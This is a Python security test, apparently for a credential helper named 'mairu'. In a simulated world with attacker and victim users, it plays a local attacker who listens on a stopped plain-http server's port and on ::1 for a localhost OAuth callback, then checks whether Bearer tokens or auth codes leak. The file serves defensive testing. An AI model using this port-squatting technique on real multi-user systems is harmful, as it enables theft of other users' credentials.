#!/usr/bin/env python3
"""Another user listens where the victim's programs are going to connect: at
the port of a plain-http server that is down, and at ::1 with the port of a
login whose address says localhost, which browsers try first.
"""

import json
import os
import re
import select
import socket
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)) + "/lib")
from world import World, has_secret, wait_for


def squat(family, host, port, ready, go):
    """Listens there, and gives all that comes until it is told to go."""
    came = b""
    with socket.socket(family) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        if family == socket.AF_INET6:
            s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
        s.bind((host, port))
        s.listen(64)
        os.write(ready, b"%d " % s.getsockname()[1])
        while True:
            found = select.select([s, go], [], [])[0]
            if go in found:
                return came
            one, _ = s.accept()
            one.settimeout(3)
            try:
                came += one.recv(1 << 16)
                one.sendall(b"HTTP/1.1 403 No\r\nContent-Length: 0\r\n\r\n")
            except OSError:
                pass
            one.close()


class Squatter:
    def __init__(self, w, family, host, port):
        ready, said = os.pipe()
        told, self.go = os.pipe()
        self.call = w.attacker.start(squat, family, host, port, said, told)
        wait_for("a squatter", lambda: select.select([ready], [], [], 0)[0])
        self.port = int(os.read(ready, 16))

    def came(self):
        os.write(self.go, b"x")
        return self.call.result()


def end_server(w):
    process = w.victim.processes[0]
    process.terminate()
    process.wait(10)


def visit(url):
    """As browsers do for `localhost`: ::1 first."""
    host, path = re.fullmatch(r"http://([^/]+)(/.*)", url).groups()
    port = int(host.rsplit(":")[-1])
    for family, address in (socket.AF_INET6, "::1"), (socket.AF_INET, "127.0.0.1"):
        try:
            with socket.socket(family) as s:
                s.settimeout(5)
                s.connect((address, port))
                s.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
                return s.recv(1 << 16)
        except OSError:
            pass
    return b""


def set_port(w, port):
    path = w.victim.env["XDG_CONFIG_HOME"] + f"/mairu/servers.d/{w.server}.json"
    with open(path, encoding="utf-8") as f:
        server = json.load(f)
    server["oauth"]["code_grant"].update(use_localhost=True, local_port=port)
    w.victim.write(path, json.dumps(server))


def localhost(w, row):
    """The squatter has ::1; the victim logs in and his browser goes where he
    is told to."""
    squatter = Squatter(w, socket.AF_INET6, "::1", 0)
    set_port(w, squatter.port)
    # It looks at the file once a second; the next one does at once.
    w.victim.run(["mairu", "kill-agent"], check=True)
    process = w.victim.popen(["mairu", "login", "--force", "--no-browser", w.server])
    said, until = b"", 100
    while until and process.poll() is None and b"/auth/" not in said:
        if select.select([process.stdout], [], [], 0.1)[0]:
            said += os.read(process.stdout.fileno(), 4096)
        until -= 1
    said += b"" if b"/auth/" in said else process.stdout.read()
    found = re.search(rb"http://localhost:\d+/auth/\S+", said)
    if found:
        w.victim.call(visit, found[0].decode())
    came = squatter.came()
    row.count(leaked=b"/auth/" in came, note=came[:200])
    row.count(
        lost=not found and f"uid {w.attacker.uid}) at ::1".encode() not in said,
        note=said,
    )


def main():
    with World(sys.argv) as w:
        w.serve().allow().log_in()
        w.must_work()
        row = w.row("squatter at the port of a plain-http server")
        end_server(w)
        port = int(re.search(r":(\d+)/", w.url)[1])
        squatter = Squatter(w, socket.AF_INET, "127.0.0.1", port)
        for argv in (
            ["list-roles", w.server],
            ["exec", "--server", w.server, "999999999999/Other", "true"],
        ):
            got = w.victim.run(["mairu", *argv], timeout=40)
            row.count(leaked=has_secret(got.said), note=got)
        came = squatter.came()
        row.count(leaked=b"Bearer" in came or has_secret(came), note=came[:300])
        row.count(lost=f"uid {w.attacker.uid}" not in got.said, note=got)

        localhost(w, w.row("squatter at ::1 and use_localhost"))


if __name__ == "__main__":
    main()
